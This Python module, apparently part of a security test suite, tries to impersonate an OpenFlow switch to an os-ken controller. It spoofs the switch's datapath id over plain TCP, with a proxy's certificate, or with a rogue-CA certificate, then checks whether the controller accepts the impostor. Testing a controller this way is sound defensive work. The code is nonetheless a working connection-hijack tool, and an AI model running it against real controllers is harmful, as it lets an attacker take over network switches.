"""A rogue OpenFlow connection that claims the switch's datapath id (docs/security.md).

    plaintext   plain TCP, as any host on the management network could
    proxy       TLS with a valid cluster certificate that is not the switch's (a proxy's)
    rogue       TLS with a certificate named `switch` from a CA the attacker made

The attacker says HELLO, waits for FEATURES_REQUEST and answers with the real switch's dpid.
It succeeded if the controller then treated it as the switch: after the FEATURES_REPLY it sent
the attacker anything beyond the handshake (a multipart request, a flow-mod, a barrier...).
The suite also checks that the real switch is still connected afterwards: without TLS and the
certificate check, os-ken replaces the switch's connection with the attacker's.
"""
from __future__ import annotations

import socket
import ssl
import struct
import time
from pathlib import Path

from .identities import rogue_certificate

OFP_VERSION = 4  # OpenFlow 1.3
HELLO, ERROR, ECHO_REQUEST, ECHO_REPLY, FEATURES_REQUEST, FEATURES_REPLY = 0, 1, 2, 3, 5, 6
HANDSHAKE = {HELLO, ERROR, ECHO_REQUEST, FEATURES_REQUEST}  # what any peer gets before it is accepted
_HEADER = struct.Struct("!BBHI")


def _msg(mtype: int, xid: int, body: bytes = b"") -> bytes:
    return _HEADER.pack(OFP_VERSION, mtype, _HEADER.size + len(body), xid) + body


def _features_reply(xid: int, dpid: int) -> bytes:
    return _msg(FEATURES_REPLY, xid, struct.pack("!QIBB2xII", dpid, 0, 254, 0, 0x4F, 0))


def _connect(identity: str, host: str, port: int, cert_dir: Path, proxy_name: str, rogue_dir: Path):
    raw = socket.create_connection((host, port), timeout=3)
    if identity == "plaintext":
        return raw
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False  # the controller's name is not what is under test here
    ctx.load_verify_locations(cert_dir / "ca.crt")
    if identity == "proxy":
        ctx.load_cert_chain(cert_dir / f"{proxy_name}.crt", cert_dir / f"{proxy_name}.key")
    elif identity == "rogue":
        rogue_certificate(rogue_dir, "switch")
        ctx.load_cert_chain(rogue_dir / "rogue-switch.crt", rogue_dir / "rogue-switch.key")
    else:
        raise ValueError(f"unknown OpenFlow identity {identity!r}")
    return ctx.wrap_socket(raw)


def claim_dpid(identity: str, host: str, port: int, dpid: int, cert_dir: Path, proxy_name: str,
               rogue_dir: Path, listen_s: float = 3.0) -> dict:
    out = {"identity": identity, "succeeded": False, "seen": []}
    try:
        sock = _connect(identity, host, port, cert_dir, proxy_name, rogue_dir)
    except (OSError, ssl.SSLError) as err:
        out["refused_at"] = f"connect/handshake: {err}"[:200]
        return out
    deadline = time.monotonic() + listen_s
    buf = b""
    answered = False
    try:
        sock.sendall(_msg(HELLO, 1))
        while time.monotonic() < deadline:
            sock.settimeout(max(0.05, deadline - time.monotonic()))
            try:
                chunk = sock.recv(65536)
            except socket.timeout:
                break
            if not chunk:
                out["refused_at"] = "closed by the controller"
                break
            buf += chunk
            while len(buf) >= _HEADER.size:
                version, mtype, length, xid = _HEADER.unpack_from(buf)
                if length < _HEADER.size or len(buf) < length:
                    break
                buf = buf[length:]
                out["seen"].append(mtype)
                if mtype == FEATURES_REQUEST:
                    sock.sendall(_features_reply(xid, dpid))
                    answered = True
                elif mtype == ECHO_REQUEST:
                    sock.sendall(_msg(ECHO_REPLY, xid))
                elif answered and mtype not in HANDSHAKE:
                    out["succeeded"] = True  # driven as if it were the switch
    except (OSError, ssl.SSLError) as err:
        out["refused_at"] = f"during exchange: {err}"[:200]
    finally:
        try:
            sock.close()
        except OSError:
            pass
    out["seen"] = sorted(set(out["seen"]))
    return out
